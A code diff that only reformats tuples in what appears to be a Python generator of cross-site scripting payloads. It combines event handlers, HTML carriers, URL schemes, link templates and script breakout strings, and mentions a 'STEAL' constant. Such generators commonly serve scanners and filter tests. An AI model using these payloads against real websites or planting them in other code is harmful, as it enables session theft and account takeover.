@@ -6,7 +6,16 @@ Made from families: what starts it, where it stands, how it is written. `STEAL` 
 from __future__ import annotations
 
 _RUN = "alert(1)"
-_EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onpointerenter", "onbegin")
+_EVENTS = (
+    "onerror",
+    "onload",
+    "onfocus",
+    "onmouseover",
+    "onanimationstart",
+    "ontoggle",
+    "onpointerenter",
+    "onbegin",
+)
 _CARRIERS = (
     "<img src=x {on}={run}>",
     "<svg {on}={run}>",
@@ -32,7 +41,12 @@ _SCHEMES = (
     "vbscript:{run}",
     "blob:{run}",
 )
-_LINKS = ('<a href="{to}">x</a>', "[x]({to})", "<iframe src='{to}'>", '<form action="{to}"><button>x</button></form>')
+_LINKS = (
+    '<a href="{to}">x</a>',
+    "[x]({to})",
+    "<iframe src='{to}'>",
+    '<form action="{to}"><button>x</button></form>',
+)
 _BREAKOUTS = (
     '"><script>{run}</script>',
     "'><script>{run}</script>",
